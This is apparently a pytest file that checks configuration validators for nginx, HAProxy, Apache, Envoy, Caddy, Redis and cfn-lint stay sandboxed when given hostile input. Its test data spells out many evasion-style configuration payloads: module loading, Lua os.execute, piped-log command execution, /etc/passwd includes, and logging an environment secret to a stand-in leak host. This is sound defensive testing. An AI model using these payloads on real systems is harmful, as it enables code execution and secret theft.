"""What a stranger's configuration makes a validator do: nothing runs, nothing is asked of the network, nothing is written.

Each configuration is given to the real program under strace, twice: rewritten, as `fix` gives it, and as it stands, which
is what the cell alone has to hold.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from batten.technologies.cloud.cloudformation.validator import cfn_lint
from batten.technologies.edges.apache.validator import httpd
from batten.technologies.edges.caddy.validator import caddy
from batten.technologies.edges.envoy.validator import envoy
from batten.technologies.edges.haproxy.validator import haproxy
from batten.technologies.edges.nginx.validator import nginx
from batten.technologies.stores.redis.validator import server
from needs import needs, where, without
from proofs import turn

INSTALLED = {
    "apache": bool(httpd()),
    "caddy": bool(caddy()),
    "cloudformation": bool(cfn_lint()),
    "envoy": bool(envoy()),
    "haproxy": bool(haproxy()),
    "nginx": bool(nginx()),
    "redis": server() is not None,
}
ASK = Path(__file__).with_name("ask.py")
HOST = "global\n    maxconn 10\n{}\ndefaults\n    mode http\n    timeout client 1s\n    timeout connect 1s\n    timeout server 1s\n"
LUA = 'os.execute("touch TRAP") io.open("TRAP2", "w"):close()'
API = "type.googleapis.com/envoy.extensions"


def envoy_with(filters: list[object], **more: object) -> str:
    """A bootstrap whose one listener has these HTTP filters."""
    router = {
        "name": "envoy.filters.http.router",
        "typed_config": {"@type": f"{API}.filters.http.router.v3.Router"},
    }
    host = {
        "name": "all",
        "domains": ["*"],
        "routes": [{"match": {"prefix": "/"}, "direct_response": {"status": 200}}],
    }
    manager = {
        "@type": f"{API}.filters.network.http_connection_manager.v3.HttpConnectionManager",
        "stat_prefix": "a",
        "route_config": {"virtual_hosts": [{**host, **more.pop("host", {})}]},  # type: ignore[dict-item]
        "http_filters": [*filters, router],
        **more,
    }
    listener = {
        "name": "l",
        "address": {"socket_address": {"address": "127.0.0.1", "port_value": 1}},
        "filter_chains": [{"filters": [{"name": "hcm", "typed_config": manager}]}],
    }
    return json.dumps({"static_resources": {"listeners": [listener]}})


def lua(**fields: object) -> dict[str, object]:
    return {"name": "lua", "typed_config": {"@type": f"{API}.filters.http.lua.v3.Lua", **fields}}


CODE = {"inline_string": LUA}
FILE_LOG = {"@type": f"{API}.access_loggers.file.v3.FileAccessLog", "path": "TRAP"}
CONFIGURATIONS = [
    # nginx
    ("nginx", "module", "load_module TRAPS/evil.so;\nevents {}\nhttp { server { listen 80; } }\n"),
    ("nginx", "logs", "events {}\nhttp { access_log TRAP; error_log TRAP2; server { listen 80; access_log TRAP3 combined; } }\n"),
    ("nginx", "outside", "events {}\nhttp { server { listen 80; } include /etc/passwd; }\n"),
    ("nginx", "names", "events {}\nhttp { upstream u { server leak.batten.example; } server { listen 80; location / { proxy_pass http://u; } } }\n"),
    ("nginx", "caches", "events {}\nhttp { proxy_cache_path TRAP keys_zone=a:10m; server { listen 80; } }\n"),
    # HAProxy
    ("haproxy", "quoted", HOST.format('    "lua"-load TRAPS/evil.lua')),
    ("haproxy", "escaped", HOST.format("    lua\\-load TRAPS/evil.lua")),
    ("haproxy", "variable", HOST.format('    setenv A load\n    "lua-${A}" TRAPS/evil.lua')),
    ("haproxy", "empty variable", HOST.format('    "lua${NONE}-load" TRAPS/evil.lua')),
    ("haproxy", "per thread", HOST.format('    "lua-load-per-${T-thread}" TRAPS/evil.lua')),
    ("haproxy", "condition", HOST.format('    .if defined(HOME)\n    lua-load TRAPS/evil.lua\n    .endif\n    .if !defined(NONE)\n    "lua-${L}load" TRAPS/evil.lua\n    .endif')),
    ("haproxy", "ring", HOST.format("") + "ring r\n    format rfc3164\n    size 32768\n    backing-file TRAP\n"),
    ("haproxy", "quoted ring", HOST.format("") + 'ring r\n    format rfc3164\n    size 32768\n    "backing-${X}file" TRAP\n'),
    ("haproxy", "logs", HOST.format("    log TRAP local0\n    log leak.batten.example:514 local0\n    pidfile TRAP")),
    ("haproxy", "names", HOST.format("") + "backend b\n    server s leak.batten.example:80\n    server-template t 3 leak.batten.example:80\n"),
    ("haproxy", "engine", HOST.format("    ssl-engine TRAPS/evil.so\n    stats socket TRAP")),
    # httpd
    ("apache", "IfModule", "Listen 80\n<IfModule !none>\nLoadModule evil_module TRAPS/evil.so\n</IfModule>\n"),
    ("apache", "IfFile", "Listen 80\n<IfFile /etc/passwd>\nLoadFile TRAPS/evil.so\n</IfFile>\n"),
    ("apache", "IfDirective", "Listen 80\n<IfDirective Listen>\nLoadFile TRAPS/evil.so\n</IfDirective>\n"),
    ("apache", "Define", "Listen 80\nDefine L LoadFile\nDefine M Load\n${L} TRAPS/evil.so\n${M}File TRAPS/evil.so\n"),
    ("apache", "continued", "Listen 80\nLoad\\\nFile TRAPS/evil.so\n"),
    ("apache", "macro", "Listen 80\n<Macro m $d>\n$d TRAPS/evil.so\n</Macro>\nUse m LoadFile\n"),
    ("apache", "exec", 'Listen 80\nDefine E exec\n<Directory />\nSession On\nSessionCryptoPassphrase "${E}:/usr/bin/touch TRAP"\n</Directory>\n'),
    ("apache", "logs", 'Listen 80\nDefine P "|/usr/bin/touch TRAP"\nCustomLog "|/usr/bin/touch TRAP" combined\nErrorLog "${P}"\nPidFile TRAP\n'),
    ("apache", "driver", "Listen 80\nDBDriver ../../../../../../TRAPS/evil\n"),
    ("apache", "include", "Listen 80\n<IfModule !none>\nInclude /etc/passwd\n</IfModule>\n"),
    ("apache", "names", "Listen 80\n<VirtualHost leak.batten.example:80>\nServerName a\n</VirtualHost>\n"),
    # Envoy
    ("envoy", "inline_code", envoy_with([lua(inline_code=LUA)])),
    ("envoy", "default_source_code", envoy_with([lua(default_source_code=CODE)])),
    ("envoy", "source_codes", envoy_with([lua(source_codes={"a": CODE}, default_source_code=CODE)])),
    ("envoy", "file", envoy_with([lua(default_source_code={"filename": "TRAPS/evil.lua"})])),
    ("envoy", "route", envoy_with([], host={"typed_per_filter_config": {"lua": {"@type": f"{API}.filters.http.lua.v3.LuaPerRoute", "source_code": CODE}}})),
    ("envoy", "typed struct", envoy_with([{"name": "x", "typed_config": {"@type": "type.googleapis.com/xds.type.v3.TypedStruct", "type_url": f"{API}.filters.http.lua.v3.Lua", "value": {"default_source_code": CODE}}}])),
    ("envoy", "dynamic module", envoy_with([{"name": "x", "typed_config": {"@type": f"{API}.filters.http.dynamic_modules.v3.DynamicModuleFilter", "dynamic_module_config": {"name": "TRAPS/evil"}, "filter_name": "e"}}])),
    ("envoy", "wasm", envoy_with([{"name": "x", "typed_config": {"@type": f"{API}.filters.http.wasm.v3.Wasm", "config": {"vm_config": {"runtime": "envoy.wasm.runtime.v8", "code": {"local": {"filename": "TRAPS/evil.wasm"}}}}}}])),
    ("envoy", "access log", envoy_with([], access_log=[{"name": "file", "typed_config": FILE_LOG}])),
    ("envoy", "admin", json.dumps({"admin": {"access_log_path": "TRAP", "profile_path": "TRAP2", "address": {"socket_address": {"address": "127.0.0.1", "port_value": 2}}}, "static_resources": {}})),
    ("envoy", "cluster", json.dumps({"static_resources": {"clusters": [{"name": "c", "connect_timeout": "1s", "type": "STRICT_DNS", "load_assignment": {"cluster_name": "c", "endpoints": [{"lb_endpoints": [{"endpoint": {"address": {"socket_address": {"address": "leak.batten.example", "port_value": 80}}}}]}]}}]}})),
    # Caddy
    ("caddy", "log file", "{\n\tlog {\n\t\toutput file TRAP\n\t}\n}\nexample.com {\n\tlog {\n\t\toutput file TRAP2\n\t}\n}\n"),
    ("caddy", "log in a snippet", "(w) {\n\tlog {\n\t\t{args[0]} file TRAP\n\t}\n}\nexample.com {\n\timport w output\n}\n"),
    ("caddy", "log to a name", "{\n\tlog {\n\t\toutput net {env.SECRET}.leak.batten.example:514\n\t}\n}\nexample.com\n"),
    ("caddy", "storage", "{\n\tstorage file_system TRAP\n}\nlocalhost {\n\ttls internal\n}\n"),
    ("caddy.json", "log", json.dumps({"logging": {"logs": {"default": {"writer": {"output": "file", "filename": "TRAP"}}, "b": {"writer": {"output": "net", "address": "{env.SECRET}.leak.batten.example:514"}}}}, "apps": {"http": {"servers": {"s": {"listen": [":80"]}}}}})),
    ("caddy", "import", "import /etc/passwd\nexample.com {\n\timport /etc/*\n}\n"),
    # Redis
    ("redis", "module", "port 6379\nloadmodule TRAPS/evil.so\n"),
    ("redis", "quoted module", 'port 6379\n"load\\x6dodule" TRAPS/evil.so\n'),
    ("redis", "quoted include", 'port 6379\n"incl\\x75de" /etc/passwd\n'),
    ("redis", "files", "port 6379\nlogfile TRAP\npidfile TRAP2\nunixsocket TRAP3\nappendonly yes\ndir TRAPS\nsave 1 1\n"),
    ("redis", "replica", "port 6379\nreplicaof leak.batten.example 6379\nslaveof leak.batten.example 6379\n"),
    # cfn-lint
    ("cloudformation", "metadata", "Metadata:\n  cfn-lint:\n    config:\n      append_rules: [TRAPS]\n      custom_rules: TRAPS/rules\n      override_spec: TRAPS/spec\nResources:\n  A:\n    Type: AWS::S3::Bucket\n"),
    ("cloudformation", "quoted metadata", 'Metadata:\n  "cfn\\x2dlint":\n    config:\n      "append\\x5frules": [TRAPS]\nResources:\n  A:\n    Type: AWS::S3::Bucket\n'),
]  # fmt: skip
_GIVEN = [(*given, rewritten) for rewritten in (True, False) for given in CONFIGURATIONS]
NAMES = {"apache": "httpd.conf", "caddy": "Caddyfile", "caddy.json": "caddy.json", "cloudformation": "t.yaml", "envoy": "envoy.json",
         "haproxy": "haproxy.cfg", "nginx": "nginx.conf", "redis": "redis.conf"}  # fmt: skip
# Those that get their way where nothing holds them; the others hang on versions and builds, and are held all the same.
WORKING = {
    ("haproxy", "quoted"), ("haproxy", "empty variable"), ("haproxy", "variable"), ("haproxy", "ring"), ("apache", "IfModule"),
    ("apache", "Define"), ("apache", "exec"), ("envoy", "inline_code"), ("envoy", "default_source_code"), ("envoy", "typed struct"),
    ("envoy", "access log"), ("caddy", "log file"), ("redis", "module"), ("redis", "quoted module"),
}  # fmt: skip
TRACED = "execve,execveat,connect,sendto,sendmsg,sendmmsg,open,openat"
_STARTED = re.compile(r'^execve(?:at)?\((?:\d+, )?"([^"]+)".* = 0$', re.MULTILINE)
_SENT = re.compile(
    r"\b(?:connect|sendto|sendmsg|sendmmsg)\(.*(?:sin_port|sin6_port|sun_path).* = \d+$", re.MULTILINE
)
EVIL_RULE = 'from pathlib import Path\nPath("{}").touch()\n'


@pytest.fixture
def traps(tmp_path: Path) -> Path:
    """Things to load that would give themselves away, and no file that the traps would make."""
    folder = tmp_path / "traps"
    folder.mkdir()
    (folder / "evil.lua").write_text(LUA.replace("TRAP", str(tmp_path / "trap")))
    (folder / "evil.py").write_text(EVIL_RULE.format(tmp_path / "trap"))
    shutil.copy(library(), folder / "evil.so")
    (folder / "evil.so").chmod(0o755)  # redis asks for it
    (tmp_path / ".cfnlintrc").write_text(f"append_rules: ['{folder}']\n")
    return folder


def library() -> Path:
    """A shared object that can be loaded: that it was opened shows in the trace."""
    return next(p for p in Path("/usr/lib").glob("*-linux-gnu*/libz.so*") if p.is_file())


@needs("strace", where("strace"))
@pytest.mark.parametrize(
    ("technology", "about", "text", "rewritten"),
    [
        pytest.param(t, a, text, r, id=f"{t}: {a}{', rewritten' * r}")
        for t, a, text, r in turn("walls", _GIVEN, 60)
    ],
)
def test_a_configuration_makes_its_validator_do_nothing(
    technology: str, about: str, text: str, rewritten: bool, traps: Path, tmp_path: Path
) -> None:
    if not INSTALLED[technology.partition(".")[0]]:
        without(technology)
    before = listing(placed(technology, text, traps, tmp_path))
    trace = asked(technology, tmp_path, "rewritten" if rewritten else "stands")
    started = [Path(p).name for p in _STARTED.findall(trace)]
    # Our own interpreter, the wrapper, and the program: nothing after it.
    assert started[1] == "bwrap" and len(started) == 3, started
    assert _SENT.findall(trace) == []
    assert listing(tmp_path) == before
    assert "s3cret" not in trace


@needs("strace", where("strace"))
@pytest.mark.parametrize(
    ("technology", "about", "text"),
    [c for c in CONFIGURATIONS if c[:2] in WORKING],
    ids=[f"{t}: {a}" for t, a, _ in CONFIGURATIONS if (t, a) in WORKING],
)
def test_without_either_wall_the_configuration_does_what_it_wants(
    technology: str, about: str, text: str, traps: Path, tmp_path: Path
) -> None:
    """Else the test above would hold of traps that never close."""
    if not INSTALLED[technology.partition(".")[0]]:
        without(technology)
    before = listing(placed(technology, text, traps, tmp_path))
    trace = asked(technology, tmp_path, "nothing")
    loaded = re.search(r"evil\.(?:so|py)[^\n]* = \d+$", trace, re.MULTILINE)
    assert loaded or listing(tmp_path) != before or "leak.batten.example" in trace, trace[-2000:]


def placed(technology: str, text: str, traps: Path, folder: Path) -> Path:
    """The configuration in its file, with the places of the traps."""
    words = text.replace("TRAPS", str(traps))
    (folder / NAMES[technology]).write_text(re.sub(r"TRAP(?=\d|\b)", str(folder / "trap"), words))
    return folder


def asked(technology: str, folder: Path, manner: str) -> str:
    """The system calls of asking the validator."""
    log = folder.with_name(f"{folder.name}.strace")
    watch = ("strace", "-ff", "-qq", "-s", "200", "-e", f"trace={TRACED}", "-o", str(log))
    question = (sys.executable, str(ASK), technology.partition(".")[0], NAMES[technology], manner)
    done = subprocess.run(
        [*watch, *question],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "SECRET": "s3cret", "HOME": str(folder), "PYTHONDONTWRITEBYTECODE": "1"},
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip(), "no verdict"
    # A file for each process, so that no line is torn; the numbers grow.
    files = sorted(log.parent.glob(f"{log.name}.*"), key=lambda f: int(f.suffix[1:]))
    return "".join(f.read_text(errors="replace") for f in files)


def listing(folder: Path) -> list[str]:
    return sorted(str(p) for p in folder.rglob("*"))
